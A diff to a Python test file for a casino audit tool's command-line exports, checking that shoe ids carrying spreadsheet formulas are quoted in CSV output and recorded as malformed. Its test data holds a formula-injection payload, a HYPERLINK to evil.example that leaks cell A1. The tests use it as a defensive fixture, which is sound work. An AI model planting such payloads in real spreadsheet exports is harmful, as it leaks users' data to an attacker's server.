@@ -2,9 +2,11 @@
 symlink (issue 20, part 4).
 
 Everything runs the real command (`python -m auditor.cli.app`) in a process of its own, so
-the exit codes, stderr and the CSV bytes are what an operator gets. A shoe id is any string
-the table system sends, so it carries spreadsheet formulas through ingest into findings; a
-table or pit id may start with `-`, and the table pass's messages start with the table id.
+the exit codes, stderr and the CSV bytes are what an operator gets. A shoe id with a
+character outside the id alphabet makes its line malformed (issue 28), and the
+log.malformed finding keeps the id as sent, so spreadsheet formulas still reach the
+exports; a table or pit id may start with `-`, and the table pass's messages start with the
+table id.
 """
 
 from __future__ import annotations
@@ -167,41 +169,44 @@ def by_fingerprint(rows: list[dict]) -> dict[str, dict]:
 @pytest.mark.slow
 def test_the_findings_csv_quotes_every_formula_and_the_jsonl_keeps_the_text(night: Night) -> None:
     cells = by_fingerprint(csv_rows(night.csv))
+    # The one shoe id in the id alphabet deals its round: a shoe.burn, as before.
     burns = [r for r in night.jsonl if r["code"] == "shoe.burn"]
-    assert [r["shoe"] for r in burns] == list(SHOES)
-    for rec in burns:
-        shoe = rec["shoe"]
-        assert (rec["table"], rec["pit"], rec["round"]) == ("-A1", "-P3", 1)
-        assert rec["message"] == f"-A1 shoe {shoe}{NO_BURN}"
+    assert [r["shoe"] for r in burns] == ["S-7"]
+    [rec] = burns
+    assert (rec["table"], rec["pit"], rec["round"]) == ("-A1", "-P3", 1)
+    assert rec["message"] == f"-A1 shoe S-7{NO_BURN}"
+    row = cells[rec["fingerprint"]]
+    assert (row["table"], row["pit"], row["shoe"], row["round"]) == ("'-A1", "'-P3", "S-7", "1")
+    assert row["message"] == f"'-A1 shoe S-7{NO_BURN}"
+    assert row["seq"] == str(rec["seq"]) and row["ts"] == rec["ts"]
+    assert row["source"] == rec["source"] and row["source"].startswith("/")
+    assert row["expected"] == '{"burn": {"burn": "card_value", "expose": 1, "ten_value_burns": 10}}'
+    assert row["observed"] == '{"burn": null}'
+    # Every other shoe's lines are malformed; each log.malformed keeps the id as sent, and
+    # its CSV cell is quoted.
+    malformed = [r for r in night.jsonl if r["code"] == "log.malformed" and r["seq"] != 999]
+    assert {r["shoe"] for r in malformed} == set(SHOES) - {"S-7"}
+    for rec in malformed:
         row = cells[rec["fingerprint"]]
-        assert (row["table"], row["pit"], row["shoe"], row["round"]) == (
-            "'-A1", "'-P3", SHOES[shoe], "1"
-        )
-        assert row["message"] == f"'-A1 shoe {shoe}{NO_BURN}"
-        assert row["seq"] == str(rec["seq"]) and row["ts"] == rec["ts"]
+        assert (row["table"], row["shoe"]) == ("'-A1", SHOES[rec["shoe"]])
         assert row["source"] == rec["source"] and row["source"].startswith("/")
-        assert row["expected"] == (
-            '{"burn": {"burn": "card_value", "expose": 1, "ten_value_burns": 10}}'
-        )
-        assert row["observed"] == '{"burn": null}'
-    # What a spreadsheet reads: the first cells of the first finding's line, byte for byte.
-    assert (
-        "\nshoe.burn,minor,'-A1,'-P3,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,"
-        "\"\"click\"\")\",1,3,2026-11-28T22:10:20.000-05:00,"
-    ) in night.csv
+    # What a spreadsheet reads: the hyperlink's cell, byte for byte.
+    assert (",'-A1,,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\","
+            in night.csv)
 
 
 @pytest.mark.slow
 def test_a_malformed_line_keeps_its_negative_round_as_a_number(night: Night) -> None:
-    [rec] = [r for r in night.jsonl if r["code"] == "log.malformed"]
+    [rec] = [r for r in night.jsonl if r["code"] == "log.malformed" and r["seq"] == 999]
     assert (rec["table"], rec["shoe"], rec["round"], rec["seq"]) == ("-A1", HYPERLINK, -3, 999)
     row = by_fingerprint(csv_rows(night.csv))[rec["fingerprint"]]
     assert (row["table"], row["pit"], row["shoe"], row["round"], row["seq"]) == (
         "'-A1", "", "'" + HYPERLINK, "-3", "999"
     )
     assert row["message"] == (
-        "Line 1 of bad.jsonl could not be read: round must be a whole number from 1 to "
-        "1000000000000000, not -3; it is kept in quarantine"
+        "Line 1 of bad.jsonl could not be read: shoe has U+003D at character 1: an id is 1-64 "
+        "characters of A-Z a-z 0-9 . _ -, with no space, invisible or non-ASCII character; it "
+        "is kept in quarantine"
     )
     assert row["expected"] == '"a line of event log v1"'
     assert json.loads(row["observed"])["line"] == json.dumps(MALFORMED)
@@ -212,10 +217,15 @@ def test_the_pdfs_csv_has_the_same_cells_and_its_jsonl_the_same_text(night: Nigh
     cli, pdf = by_fingerprint(csv_rows(night.csv)), by_fingerprint(csv_rows(night.pdf_csv))
     assert set(pdf) == set(cli) and len(pdf) == len(night.jsonl)
     assert pdf == cli
-    assert pdf[f"shoe.burn|-A1|{HYPERLINK}|none"]["shoe"] == "'" + HYPERLINK
-    assert pdf[f"shoe.burn|-A1|{HYPERLINK}|none"]["message"] == f"'-A1 shoe {HYPERLINK}{NO_BURN}"
-    assert by_fingerprint(night.pdf_jsonl) == by_fingerprint(night.jsonl)
-    assert {r["shoe"] for r in night.pdf_jsonl} == set(SHOES)
+    assert pdf["shoe.burn|-A1|S-7|none"]["message"] == f"'-A1 shoe S-7{NO_BURN}"
+    assert {r["shoe"] for r in pdf.values()} >= {"'" + HYPERLINK, "S-7"}
+    # The PDF's records also carry their inclusion proof in the report's ledger head
+    # (docs/findings-format.md, `ledger`); the rest is the same text.
+    in_pdf = [{k: v for k, v in r.items() if k != "ledger"} for r in night.pdf_jsonl]
+    assert all("ledger" in r for r in night.pdf_jsonl)
+    assert by_fingerprint(in_pdf) == by_fingerprint(night.jsonl)
+    shoes = {r["shoe"] for r in night.pdf_jsonl}
+    assert shoes == {r["shoe"] for r in night.jsonl} and shoes - {None} == set(SHOES)
 
 
 @pytest.mark.slow
